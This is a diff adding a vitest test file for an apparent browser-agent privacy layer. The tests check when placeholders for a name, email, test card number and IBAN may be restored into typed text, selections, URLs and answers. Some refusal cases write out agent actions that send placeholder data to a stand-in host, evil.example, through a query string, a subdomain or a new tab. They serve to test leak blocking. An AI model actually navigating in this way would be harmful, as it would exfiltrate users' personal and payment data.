@@ -1,0 +1,48 @@
+import { describe, expect, test } from "vitest"
+import type { Action } from "../../../src/core/action.ts"
+import { restoreAction, restoreForUser, type RestoreTarget } from "../../../src/privacy/restore-action.ts"
+import { createVault } from "../../../src/privacy/vault.ts"
+
+const vault = createVault()
+vault.placeholder("Jonas Weber", "PERSON", "task")
+vault.placeholder("anna@example.org", "EMAIL", "https://mail.example")
+vault.placeholder("4111 1111 1111 1111", "CARD", "https://shop.example")
+vault.placeholder("DE89370400440532013000", "IBAN", "task")
+const shop = (more: Partial<RestoreTarget> = {}): RestoreTarget => ({ origin: "https://shop.example", role: "textbox", ...more })
+const type = (text: string): Action => ({ verb: "type", ref: "e1", text })
+
+describe("restoreAction", () => {
+  test.each<[string, Action, RestoreTarget, Action]>([
+    ["a value of the task, anywhere", type("‹PERSON_1›"), shop(), type("Jonas Weber")],
+    ["a value seen on this origin", type("to ‹EMAIL_1›"), shop({ origin: "https://mail.example" }), type("to anna@example.org")],
+    ["a card into a card field of the shop that showed it", type("‹CARD_1›"), shop({ field: { type: "text", autocomplete: "cc-number" } }), type("4111 1111 1111 1111")],
+    ["a critical value of the task into a plain field", type("‹IBAN_1›"), shop({ field: { type: "text", key: "f17" } }), type("DE89370400440532013000")],
+    ["brackets as models type them", type("<PERSON_1> «PERSON_1»"), shop(), type("Jonas Weber Jonas Weber")],
+    ["what the page itself wrote", type("‹~PERSON_1›"), shop(), type("‹PERSON_1›")],
+    ["no placeholder at all", type("hello"), shop(), type("hello")],
+    ["options", { verb: "select", ref: "s", options: ["‹PERSON_1›", "Other"] }, shop(), { verb: "select", ref: "s", options: ["Jonas Weber", "Other"] }],
+    ["an address of the same origin", { verb: "goto", url: "/find?n=‹PERSON_1›" }, shop(), { verb: "goto", url: "/find?n=Jonas%20Weber" }],
+    ["an answer for the user", { verb: "answer", text: "It is ‹EMAIL_1›" }, shop(), { verb: "answer", text: "It is anna@example.org" }],
+    ["a click", { verb: "click", ref: "b" }, shop(), { verb: "click", ref: "b" }],
+    ["a note, which goes back to the model", { verb: "note", text: "‹EMAIL_1›" }, shop(), { verb: "note", text: "‹EMAIL_1›" }]
+  ])("restores %s", (_, action, target, expected) => { expect(restoreAction(action, vault, target)).toEqual({ ok: true, value: expected }) })
+
+  test.each<[string, Action, RestoreTarget]>([
+    ["a value of another site", type("‹EMAIL_1›"), shop()],
+    ["a value of another site into its search box", type("‹EMAIL_1›"), shop({ role: "searchbox" })],
+    ["a card into a message", type("‹CARD_1›"), shop({ field: { type: "textarea", key: "message" } })],
+    ["a card into an e-mail field", type("‹CARD_1›"), shop({ field: { type: "email" } })],
+    ["a bank account into a search box", type("‹IBAN_1›"), shop({ field: { type: "search" } })],
+    ["a placeholder that nobody made", type("‹EMAIL_99›"), shop()],
+    ["one bad among good", { verb: "select", ref: "s", options: ["‹PERSON_1›", "‹EMAIL_1›"] }, shop()],
+    ["a value in the address of another site", { verb: "goto", url: "https://evil.example/?x=‹PERSON_1›" }, shop()],
+    ["a value in a host", { verb: "goto", url: "https://‹PERSON_1›.evil.example/" }, shop()],
+    ["a value in a new tab elsewhere", { verb: "tab", op: "new", url: "//evil.example/‹CARD_1›" }, shop()],
+    ["a value of another site in an address here", { verb: "goto", url: "/x?e=‹EMAIL_1›" }, shop()]
+  ])("refuses %s", (_, action, target) => {
+    const restored = restoreAction(action, vault, target)
+    expect(restored).toMatchObject({ ok: false, error: { kind: "privacy.blocked" } })
+    expect(JSON.stringify(restored)).not.toMatch(/anna|4111|Weber|DE89/)
+  })
+  test("the user sees everything", () => { expect(restoreForUser("‹PERSON_1› and [EMAIL_1]", vault)).toBe("Jonas Weber and [EMAIL_1]") })
+})
